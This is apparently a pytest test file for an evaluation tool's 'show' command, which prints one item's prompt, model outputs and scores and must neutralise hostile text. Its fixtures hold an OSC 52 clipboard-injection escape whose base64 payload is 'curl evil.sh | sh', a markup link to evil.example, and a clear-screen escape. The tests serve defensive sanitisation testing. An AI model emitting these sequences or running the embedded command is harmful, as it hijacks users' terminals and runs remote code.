"""`assay show RUN --id ID`: the prompt, gold answer, each model's output, parsed answer and
scores of one item, with hostile text made inert; --json; unknown ids and models named."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from assay.commands.show import item_text
from assay.errors import AssayError
from assay.report.items import run_item

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
sys.path.insert(0, str(FIXTURES))

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
MARKUP = "[/bold][link=https://evil.example]click[/link]"


@pytest.fixture
def run(tmp_path):
    import cmp_task

    recs = cmp_task.table_records(lost=2, gained=1, both=1, neither=1)
    for r in recs:
        r["scores"]["slice"] = "easy"
        if r["id"] == "1" and r["model"] == "ft":
            r["output"] = f"no decision {OSC52}{MARKUP}\x1b[2J"
            r["parse_error"] = "no decision line"
        if r["id"] == "1" and r["model"] == "base":
            r["parsed"] = {"decision": "accept"}
    path = cmp_task.write_run(tmp_path / "run", recs, task_module="cmp_task")
    (path / "prompts.jsonl").write_text(json.dumps({"prompt_hash": "h1", "messages": [
        {"role": "system", "content": "Judge it."},
        {"role": "user", "content": f"Is 1 right?{OSC52}"}]}) + "\n")
    return path


def test_run_item_has_prompt_both_outputs_parsed_and_scores(run):
    item = run_item(run, "1")
    assert item.prompt[1]["content"].startswith("Is 1 right?")
    assert list(item.outputs) == ["base", "ft"]
    base, ft = item.outputs["base"][0], item.outputs["ft"][0]
    assert base.parsed == {"decision": "accept"} and base.scores["correct"] is True
    assert ft.parse_error == "no decision line" and ft.scores["correct"] is False
    assert item.slices == {"slice": "easy"}
    assert list(run_item(run, "1", ["ft"]).outputs) == ["ft"]


def test_item_text_is_inert_and_shows_every_part(run):
    text = item_text(run_item(run, "1"))
    assert "\x1b" not in text and "\x07" not in text
    for part in ("item 1 (cmp-test)", "[system]", "Judge it.", "Is 1 right?", "== base ==",
                 '== ft ==', 'parsed: {"decision": "accept"}', "parse failure: no decision line",
                 "correct=true", "correct=false", "slice slice: easy", MARKUP):
        assert part in text, part
    assert "prompt not stored" in item_text(run_item(run, "2"))


def test_unknown_id_and_model_name_what_the_run_has(run):
    with pytest.raises(AssayError, match=r"item '99' is not in .*e\.g\. 0, 1, 2.*--id"):
        run_item(run, "99")
    with pytest.raises(AssayError, match=r"model 'nope' .*models: base, ft"):
        run_item(run, "1", ["nope"])


def _cli(*args):
    env = {"PYTHONPATH": str(Path(__file__).resolve().parents[2] / "src") + ":" + str(FIXTURES),
           "PATH": "/usr/bin:/bin", "OMP_NUM_THREADS": "1"}
    return subprocess.run([sys.executable, "-m", "assay", "show", *args], capture_output=True,
                          text=True, env=env)


def test_show_command_prints_inert_text_json_and_one_line_errors(run):
    out = _cli(str(run), "--id", "1")
    assert out.returncode == 0, out.stderr
    assert "\x1b]" not in out.stdout and "\x1b[2J" not in out.stdout
    assert "click[/link]" in out.stdout and "parse failure: no decision line" in out.stdout
    js = _cli(str(run), "--id", "1", "--model", "ft", "--json")
    data = json.loads(js.stdout)
    assert list(data["outputs"]) == ["ft"] and data["outputs"]["ft"][0]["scores"]["correct"] is False
    bad = _cli(str(run), "--id", "99")
    assert bad.returncode == 2 and bad.stderr.startswith("error: item '99'")
